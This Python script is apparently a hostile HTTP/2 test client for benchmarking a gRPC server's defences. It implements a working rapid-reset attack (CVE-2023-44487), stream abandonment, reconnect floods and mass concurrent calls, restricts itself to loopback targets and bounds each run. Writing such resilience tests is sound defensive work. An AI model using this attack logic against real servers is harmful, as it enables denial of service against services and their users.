#!/usr/bin/env python3
"""h2_attack.py — a hostile raw HTTP/2 client (Debian's python3-h2) for the
stream-abuse tests and the attack benchmark. Loopback only; every loop is
bounded in time and count.

Modes:
  reset    one connection: HEADERS (no token) then RST_STREAM(CANCEL) on
           stream after stream, as fast as the socket takes them (the
           "rapid reset" of CVE-2023-44487); --with-message sends an empty
           message before each reset.
  abandon  one connection: HEADERS without END_STREAM and never a body, so
           each stream stays open until the server gives up on it (more than
           the live-call bound per connection).
  flood    like reset, but reconnects each time the server closes the
           connection, to see the per-address penalty.
  calls    one connection: --max-streams complete calls (HEADERS, an empty
           message, END_STREAM) at once, then reads the answers for --hold
           seconds; with --path .../Health/Watch the accepted streams stay
           open (the per-connection live-call bound).

Prints one JSON object on stdout: streams sent, connections made, how long
each connection survived after its first stream (ms), how it ended.
"""
import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def headers_for(authority, path, token=None, scheme="http"):
    h = [
        (":method", "POST"),
        (":scheme", scheme),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if token:
        h.append(("authorization", "Bearer " + token))
    return h


class Conn:
    def __init__(self, host, port, source, tls=None):
        self.sock = socket.create_connection((host, port), timeout=5,
                                            source_address=(source, 0) if source else None)
        if tls:
            # TLS with ALPN h2; a client certificate when the server wants
            # one (mutual TLS): tls = (ca, cert, key) paths.
            ctx = ssl.create_default_context(cafile=tls[0])
            ctx.check_hostname = False
            if tls[1]:
                ctx.load_cert_chain(tls[1], tls[2])
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname="localhost")
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                        validate_inbound_headers=False)
        self.h2 = h2.connection.H2Connection(config=cfg)
        self.h2.initiate_connection()
        self.sock.sendall(self.h2.data_to_send())
        self.sock.setblocking(False)
        self.closed = None  # why the connection ended
        self.statuses = {}  # grpc-status -> count, from trailers received
        self.reasons = {}
        self.with_data = set()  # streams that received a message

    def pump(self):
        """Reads what the server sent; records how the connection ended."""
        while self.closed is None:
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except (ConnectionResetError, BrokenPipeError, OSError) as e:
                self.closed = "reset:" + type(e).__name__
                return
            if not data:
                self.closed = "eof"
                return
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError as e:
                self.closed = "protocol:" + type(e).__name__
                return
            for ev in events:
                if isinstance(ev, h2.events.ConnectionTerminated):
                    self.closed = "goaway:%s" % ev.error_code
                elif isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    d = dict(ev.headers)
                    if "grpc-status" in d:
                        self.statuses[d["grpc-status"]] = self.statuses.get(d["grpc-status"], 0) + 1
                        r = d.get("scrabble-reason", "")
                        self.reasons[r] = self.reasons.get(r, 0) + 1
                elif isinstance(ev, h2.events.DataReceived):
                    self.with_data.add(ev.stream_id)
                    self.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        while data and self.closed is None:
            try:
                n = self.sock.send(data)
                data = data[n:]
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                self.pump_wait()
            except (ConnectionResetError, BrokenPipeError, OSError) as e:
                self.closed = "reset:" + type(e).__name__
                return

    def pump_wait(self):
        import select
        select.select([self.sock], [self.sock], [], 0.05)
        self.pump()


def run_conn(args, deadline, budget):
    """One connection until the server ends it, the deadline or the budget."""
    tls = (args.tls_ca, args.tls_cert, args.tls_key) if args.tls_ca else None
    c = Conn(args.host, args.port, args.source, tls)
    authority = "%s:%d" % (args.host, args.port)
    hdrs = headers_for(authority, args.path, args.token, "https" if tls else "http")
    sent = 0
    first = None
    opened = []
    stream_limit = False
    try:
        while c.closed is None and time.monotonic() < deadline and sent < budget:
            for _ in range(args.batch):
                if sent >= budget:
                    break
                try:
                    sid = c.h2.get_next_available_stream_id()
                    c.h2.send_headers(sid, hdrs, end_stream=False)
                    if args.mode == "calls":
                        # An empty message: flag 0, length 0.
                        c.h2.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
                    elif args.mode == "abandon":
                        opened.append(sid)
                    else:
                        if args.with_message:
                            # The whole request first, so the call reaches
                            # the handler before the reset.
                            c.h2.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=False)
                        c.h2.reset_stream(sid, error_code=8)  # CANCEL
                except h2.exceptions.TooManyStreamsError:
                    # The server's MAX_CONCURRENT_STREAMS: no more for now.
                    stream_limit = True
                    break
                except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
                    c.closed = c.closed or "h2-refused"
                    break
                sent += 1
            if first is None:
                first = time.monotonic()
            c.flush()
            c.pump()
            if args.mode in ("abandon", "calls") and (sent >= budget or stream_limit):
                break
        if args.mode in ("abandon", "calls") or args.linger > 0:
            # Hold the streams open, reading what the server answers (or,
            # after a reset burst, whether the server closes the connection).
            end = min(deadline, time.monotonic() + (args.hold if args.linger <= 0 else args.linger))
            while c.closed is None and time.monotonic() < end:
                c.pump_wait()
    finally:
        survived_ms = None
        if first is not None:
            survived_ms = round((time.monotonic() - first) * 1000, 1)
        try:
            c.sock.close()
        except OSError:
            pass
    return {"streams": sent, "survived_ms": survived_ms, "closed": c.closed,
            "stream_limit": stream_limit,
            "statuses": c.statuses, "reasons": c.reasons, "with_data": len(c.with_data)}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True, help="host:port (loopback)")
    ap.add_argument("--mode", choices=["reset", "abandon", "flood", "calls"], default="reset")
    ap.add_argument("--path", default="/scrabble.v1.Edge/GetState")
    ap.add_argument("--token", default=None)
    ap.add_argument("--duration", type=float, default=10.0, help="seconds (max 60)")
    ap.add_argument("--max-streams", type=int, default=2000000)
    ap.add_argument("--max-conns", type=int, default=1000)
    ap.add_argument("--batch", type=int, default=50, help="streams per write")
    ap.add_argument("--hold", type=float, default=3.0, help="abandon: seconds to hold")
    ap.add_argument("--source", default=None, help="local address to bind (e.g. 127.0.0.2)")
    ap.add_argument("--tls-ca", default=None, help="TLS: the CA that signed the server")
    ap.add_argument("--tls-cert", default=None, help="TLS: client certificate (mutual TLS)")
    ap.add_argument("--tls-key", default=None, help="TLS: its key")
    ap.add_argument("--linger", type=float, default=0.0,
                    help="reset: after the last stream, keep reading up to this many seconds")
    ap.add_argument("--with-message", action="store_true",
                    help="reset/flood: send an empty message before each RST_STREAM")
    args = ap.parse_args()
    args.host, port = args.target.rsplit(":", 1)
    args.port = int(port)
    if args.host not in ("127.0.0.1", "localhost", "::1") and not args.host.startswith("127."):
        sys.exit("loopback targets only")
    deadline = time.monotonic() + min(args.duration, 60.0)
    conns = []
    total = 0
    refused = 0
    while time.monotonic() < deadline and total < args.max_streams and len(conns) < args.max_conns:
        try:
            r = run_conn(args, deadline, args.max_streams - total)
        except (ConnectionRefusedError, ConnectionResetError, socket.timeout, OSError):
            refused += 1
            time.sleep(0.01)
            if args.mode != "flood":
                break
            continue
        conns.append(r)
        total += r["streams"]
        if args.mode != "flood":
            break
    surv = sorted(c["survived_ms"] for c in conns if c["survived_ms"] is not None)
    per = sorted(c["streams"] for c in conns)
    ended = {}
    for c in conns:
        k = (c["closed"] or "alive").split(":")[0]
        ended[k] = ended.get(k, 0) + 1
    out = {"mode": args.mode, "streams": total, "connections": len(conns),
           "connect_failures": refused, "ended": ended,
           "survived_ms_max": surv[-1] if surv else None,
           "survived_ms_median": surv[len(surv) // 2] if surv else None,
           "streams_per_conn_max": per[-1] if per else 0,
           "statuses": {}, "reasons": {}, "with_data": sum(c["with_data"] for c in conns),
           "conns": conns[:3]}
    for c in conns:
        for k, v in c["statuses"].items():
            out["statuses"][k] = out["statuses"].get(k, 0) + v
        for k, v in c["reasons"].items():
            out["reasons"][k] = out["reasons"].get(k, 0) + v
    print(json.dumps(out))


if __name__ == "__main__":
    main()
